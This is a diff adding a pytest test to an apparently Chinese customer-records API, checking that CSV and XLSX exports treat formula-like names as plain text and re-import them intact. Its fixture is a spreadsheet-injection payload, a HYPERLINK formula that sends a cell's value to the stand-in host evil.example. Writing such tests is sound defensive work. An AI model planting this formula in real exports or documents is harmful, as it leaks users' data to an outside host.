@@ -175,3 +175,24 @@ def test_a_failing_background_import_writes_nothing_and_says_why(sync_app, backe
     assert [(e["row"], e["column"]) for e in job["errors"]] == [(3, "电压等级")]
     found = client.get(f"/api/v1/customers?account_number=BF{tag}1", headers=headers)
     assert found.get_json() == []
+
+
+def test_exports_never_carry_a_live_formula(api):
+    """A name typed as `=HYPERLINK(...)` (by a customer, an import or a handheld) is text in
+    every export: CSV gets the spreadsheet's `'` escape, XLSX a string cell; both re-import."""
+    archivist = api("archivist")
+    formula = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
+    row = _row(户名=formula, 用电地址="@SUM(1+1)")
+    _post(archivist, _csv([row]))
+    exported = archivist.get(f"/api/v1/customer-exports?format=xlsx&q={row['户号']}")
+    cells = list(load_workbook(io.BytesIO(exported.data)).active.iter_rows())[1]
+    assert {(c.value, c.data_type) for c in cells if c.value in (formula, "@SUM(1+1)")} == {
+        (formula, "s"),
+        ("@SUM(1+1)", "s"),
+    }
+    as_csv = archivist.get(f"/api/v1/customer-exports?format=csv&q={row['户号']}")
+    [line] = list(csv.DictReader(io.StringIO(as_csv.data.decode("utf-8-sig"))))
+    assert line["户名" if "户名" in line else "name"] == "'" + formula
+    back = _post(archivist, as_csv.data, name="back.csv", dry_run=True)
+    assert back.get_json()["status"] == "validated", back.get_json()
+    assert _found(archivist, row["户号"])[0]["name"] == formula
